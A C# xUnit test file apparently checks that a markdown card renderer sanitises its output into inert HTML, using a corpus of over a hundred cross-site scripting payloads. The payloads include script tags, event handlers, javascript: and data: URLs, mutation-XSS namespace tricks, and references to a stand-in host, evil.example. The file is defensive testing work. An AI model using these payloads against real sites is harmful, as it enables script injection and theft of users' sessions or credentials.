using System.Text.RegularExpressions;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Lodestone.Ui;

namespace Lodestone.Tests.Ui;

/// <summary>Texts that have run script somewhere, and one judge that knows nothing of the sanitiser.</summary>
[NoDatabase]
public sealed partial class CardXssTests
{
    private static readonly HashSet<string> Inert = new(
        "a abbr article b blockquote br caption center cite code dd del details dfn div dl dt em figcaption figure font h1 h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p picture pre q s samp section small span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr"
            .Split(' '),
        StringComparer.Ordinal);

    private static readonly CardAddresses Addresses = new(path => "/r/" + path, path => "/r/" + path);
    private readonly CardMarkdown _cards = new();

    public static TheoryData<string> Corpus { get; } =
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<script\n>alert(1)</script\n>",
        "<<script>alert(1)//<</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=x oNeRrOr=\"alert(1)\">",
        "<img/src=x/onerror=alert(1)>",
        "<img src=\"x\"onerror=\"alert(1)\">",
        "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
        "<img src=javascript:alert(1)>",
        "<img src=`javascript:alert(1)`>",
        "<img src=\"jav\tascript:alert(1)\">",
        "<img src=\"jav&#x0A;ascript:alert(1)\">",
        "<img src=\" &#14; javascript:alert(1)\">",
        "<img src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
        "<img srcset=\"https://evil.example/a 1x\">",
        "<img dynsrc=\"javascript:alert(1)\" lowsrc=\"javascript:alert(1)\">",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](\u0001javascript:alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](file:///etc/passwd)",
        "[x](blob:https://example.org/1)",
        "[x](view-source:https://example.org)",
        "![x](javascript:alert(1))",
        "![x](data:text/html,<script>alert(1)</script>)",
        "![x](x\"onerror=\"alert(1))",
        "[x](https://a.example\"onclick=\"alert(1))",
        "[x]: javascript:alert(1)\n\n[x]",
        "<javascript:alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"javas\0cript:alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"\u00A0javascript:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"x\" onclick=alert(1) onmouseover=alert(1) onfocus=alert(1) autofocus tabindex=1>x</a>",
        "<a href=\"x\" target=_blank download ping=\"https://evil.example\">x</a>",
        "<a xlink:href=\"javascript:alert(1)\">x</a>",
        "<a id=\"location\" name=\"cookie\">x</a><img name=\"currentScript\" id=\"shortcuts\">",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><img src=x onerror=alert(1)></template>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
        "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
        "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<applet code=x></applet>",
        "<base href=\"https://evil.example/\">",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<style>*{background:url(https://evil.example)}</style>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"position:fixed;inset:0\">x</div>",
        "<p style='x:expression(alert(1))'>x</p>",
        "<form action=\"https://evil.example\"><input name=password><button formaction=\"javascript:alert(1)\">x</button></form>",
        "<input type=image src=x onerror=alert(1)>",
        "<input type=checkbox onclick=alert(1)>",
        "<isindex action=\"javascript:alert(1)\" type=image>",
        "<button onclick=alert(1)>x</button>",
        "<select><option onclick=alert(1)></select>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<video poster=\"javascript:alert(1)\"></video>",
        "<body onload=alert(1)>",
        "<html onmouseover=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<table background=\"javascript:alert(1)\"><td background=\"javascript:alert(1)\">x</td></table>",
        "<dialog open class=sheet>x</dialog>",
        "<copy-button value=x></copy-button><theme-switch></theme-switch>",
        "<div is=copy-button contenteditable popover=auto slot=x data-shortcut=/>x</div>",
        "<picture><source srcset=\"https://evil.example/a\"><img src=x></picture>",
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
        "<p title=\"x\" id='\"><img src=x onerror=alert(1)>'>x</p>",
        "# x {onclick=alert(1)}",
        "```html\n</code></pre><script>alert(1)</script>\n```",
        "```\"onmouseover=\"alert(1)\nx\n```",
        "```js\n</span><img src=x onerror=alert(1)>\n```",
        "`<img src=x onerror=alert(1)>`",
        "| <img src=x onerror=alert(1)> |\n|--|\n| <script>alert(1)</script> |",
        "> [!NOTE]<script>alert(1)</script>\n> <img src=x onerror=alert(1)>",
        "[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))",
        "- [x] <img src=x onerror=alert(1)>",
        "https://example.org/<script>alert(1)</script>",
        "www.example.org\"onclick=\"alert(1)",
        "[<img src=x onerror=alert(1)>](x)",
        "![<script>alert(1)</script>](https://evil.example/a.png)",
        "![a](https://evil.example/a.png\"onerror=\"alert(1))",
        "---\n<script>alert(1)</script>\n---\n<img src=x onerror=alert(1)>",
    ];

    [Theory]
    [MemberData(nameof(Corpus))]
    public void What_comes_out_can_only_be_read(string markdown)
    {
        var html = _cards.Render(markdown, Addresses).Html.Value;

        AssertInert(html);
    }

    [Theory]
    [MemberData(nameof(Corpus))]
    public void A_second_parser_reads_what_the_first_one_wrote(string markdown)
    {
        var html = _cards.Render(markdown, Addresses).Html.Value;

        var again = Parse(html).InnerHtml;

        AssertInert(again);
        Assert.Equal(again, Parse(again).InnerHtml);
    }

    private static void AssertInert(string html)
    {
        foreach (var element in Parse(html).QuerySelectorAll("*"))
        {
            Assert.Contains(element.LocalName, Inert);
            Assert.Equal("http://www.w3.org/1999/xhtml", element.NamespaceUri);
            foreach (var attribute in element.Attributes)
            {
                AssertInert(element, attribute);
            }
        }
    }

    private static void AssertInert(IElement element, IAttr attribute)
    {
        Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), element.OuterHtml);
        Assert.DoesNotContain(attribute.Name, (string[])["style", "srcset", "srcdoc", "action", "formaction", "target", "ping", "name", "is", "poster", "background"]);
        switch (attribute.Name)
        {
            case "href":
                Assert.Matches(SafeLink(), attribute.Value);
                Assert.Equal("nofollow noopener", element.GetAttribute("rel"));
                break;
            case "src":
                Assert.Matches(SafeImage(), attribute.Value);
                break;
            case "id":
                Assert.StartsWith("user-content-", attribute.Value, StringComparison.Ordinal);
                break;
            case "class":
                Assert.Matches(SafeClass(), attribute.Value);
                break;
            case "type":
                Assert.Equal("checkbox", attribute.Value);
                Assert.True(element.HasAttribute("disabled"));
                break;
        }
    }

    private static IElement Parse(string html) => new HtmlParser().ParseDocument($"<!DOCTYPE html><body>{html}").Body!; // the parser always makes one

    [GeneratedRegex(@"^(https?://[^\s]+|mailto:[^\s]+|#user-content-.*|/(?!/)[^\\]*)$", RegexOptions.ExplicitCapture, 1000)]
    private static partial Regex SafeLink();

    [GeneratedRegex(@"^/(?!/)[^\\:]*$", RegexOptions.ExplicitCapture, 1000)]
    private static partial Regex SafeImage();

    [GeneratedRegex("^(language-[a-z]+|hl-[cskn]|markdown-alert[a-z -]*|footnote[a-z-]*|task-list-item|contains-task-list|)$", RegexOptions.ExplicitCapture, 1000)]
    private static partial Regex SafeClass();
}
